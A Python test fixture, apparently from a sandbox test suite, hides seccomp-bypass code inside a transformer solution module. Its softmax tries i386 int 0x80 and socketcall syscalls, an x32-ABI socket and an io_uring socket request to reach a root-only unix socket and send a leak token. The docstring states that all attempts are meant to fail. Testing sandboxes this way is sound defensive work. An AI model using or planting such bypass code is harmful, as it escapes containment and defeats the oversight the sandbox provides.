# ruff: noqa
"""ATTACK network_syscall_bypass (class: network: around the seccomp filter).

Intent: reach the world-writable unix socket file the test listens on (in a directory
only root may enter: the kind of socket a host offers, such as D-Bus or X11) without the
socket(2) call that the seccomp filter refuses for AF_UNIX:
- the 32-bit ABI: `int 0x80` from this 64-bit process, with i386's own socket (359) and
  connect (362), then through i386's socketcall multiplexer (102): a filter that checks
  x86_64 numbers only lets them through;
- the x32 ABI: socket with the x32 bit set (41 | 0x40000000);
- io_uring: an IORING_OP_SOCKET request, which the ring makes without socket(2), then a
  plain connect(2), which no filter watches.
Each technique runs in a process of its own (a seccomp kill must not stop the others)
and sends LEAK-<token>. If any of them delivers, softmax returns correct values (a leak
shows as points); otherwise zeros.

Expected: softmax 0, the rest full marks; the test's listeners receive nothing.
"""

import ctypes
import math
import mmap
import os
import socket
import struct
import time

import torch

ATTACK = "network_syscall_bypass"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
UNIX_PATH = "__SENTINEL_DIR__/sock"
PAYLOAD = f"LEAK-{TOKEN}".encode()

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
]

# push rbx; eax=nr, ebx=a, ecx=b, edx=c; int 0x80; pop rbx; movsxd rax, eax; ret
_INT80 = bytes.fromhex("5389f889f34189d089ca4489c1cd805b4863c0c3")


def _int80():
    """A callable int80(nr, a, b, c) and a page below 2 GiB (int 0x80 takes 32-bit pointers)."""
    page = _libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)  # MAP_32BIT
    if not page or page >= 1 << 31:
        raise OSError("no page below 2 GiB")
    ctypes.memmove(page, _INT80, len(_INT80))
    proto = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)
    return proto(page), page


def _sockaddr(at):
    raw = struct.pack("=H", socket.AF_UNIX) + UNIX_PATH.encode() + b"\0"
    ctypes.memmove(at, raw, len(raw))
    return len(raw)


def _i386_socket():
    int80, page = _int80()
    fd = int80(359, socket.AF_UNIX, socket.SOCK_STREAM, 0)
    if fd < 0 or int80(362, fd, page + 1024, _sockaddr(page + 1024)) < 0:
        return False
    return os.write(fd, PAYLOAD) > 0


def _i386_socketcall():
    int80, page = _int80()
    args = page + 2048
    ctypes.memmove(args, struct.pack("=3I", socket.AF_UNIX, socket.SOCK_STREAM, 0), 12)
    fd = int80(102, 1, args, 0)  # SYS_SOCKET
    if fd < 0:
        return False
    ctypes.memmove(args, struct.pack("=3I", fd, page + 1024, _sockaddr(page + 1024)), 12)
    if int80(102, 3, args, 0) < 0:  # SYS_CONNECT
        return False
    return os.write(fd, PAYLOAD) > 0


def _send(fd):
    with socket.socket(fileno=fd) as s:
        s.settimeout(0.5)
        s.connect(UNIX_PATH)
        s.sendall(PAYLOAD)
    return True


def _x32_socket():
    fd = _libc.syscall(0x40000000 | 41, socket.AF_UNIX, socket.SOCK_STREAM, 0)
    return fd >= 0 and _send(fd)


def _io_uring_socket():
    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    ring = _libc.syscall(425, ctypes.c_uint(4), params)  # io_uring_setup
    if ring < 0:
        return False
    sq_entries, cq_entries = struct.unpack_from("=II", params, 0)
    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("=7I", params, 40)
    cq_head, _, cq_mask, _, _, cqes = struct.unpack_from("=6I", params, 80)
    sq = mmap.mmap(ring, sq_array + 4 * sq_entries, offset=0)
    cq = mmap.mmap(ring, cqes + 16 * cq_entries, offset=0x8000000)
    sqes = mmap.mmap(ring, 64 * sq_entries, offset=0x10000000)
    tail = struct.unpack_from("=I", sq, sq_tail)[0]
    index = tail & struct.unpack_from("=I", sq, sq_mask)[0]
    # IORING_OP_SOCKET (45): fd = domain, off = type, len = protocol
    sqe = struct.pack("=BBHiQQI", 45, 0, 0, socket.AF_UNIX, socket.SOCK_STREAM, 0, 0).ljust(64, b"\0")
    sqes[64 * index : 64 * index + 64] = sqe
    struct.pack_into("=I", sq, sq_array + 4 * index, index)
    struct.pack_into("=I", sq, sq_tail, tail + 1)
    enter = _libc.syscall(
        426, ring, ctypes.c_uint(1), ctypes.c_uint(1), ctypes.c_uint(1), None, ctypes.c_size_t(0)
    )
    if enter < 0:
        return False
    head = struct.unpack_from("=I", cq, cq_head)[0] & struct.unpack_from("=I", cq, cq_mask)[0]
    _, fd, _ = struct.unpack_from("=QiI", cq, cqes + 16 * head)
    return fd >= 0 and _send(fd)


TECHNIQUES = {
    "i386 socket": _i386_socket,
    "i386 socketcall": _i386_socketcall,
    "x32 socket": _x32_socket,
    "io_uring socket": _io_uring_socket,
}


def _try(technique):
    """Run ``technique`` in a fork: 'delivered', 'failed', or how it died."""
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            code = 0 if technique() else 1
        except BaseException:
            pass
        os._exit(code)
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            if os.WIFSIGNALED(status):
                return f"killed by signal {os.WTERMSIG(status)}"
            return "delivered" if os.WEXITSTATUS(status) == 0 else "failed"
        time.sleep(0.01)
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    return "hung"


def softmax(x, dim=-1):
    outcome = {name: _try(technique) for name, technique in TECHNIQUES.items()}
    print("network_syscall_bypass:", outcome, flush=True)
    leaked = [name for name, how in outcome.items() if how == "delivered"]
    if not leaked:
        return torch.zeros_like(x)
    e = torch.exp(x - x.max(dim=dim, keepdim=True).values)
    return e / e.sum(dim=dim, keepdim=True)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
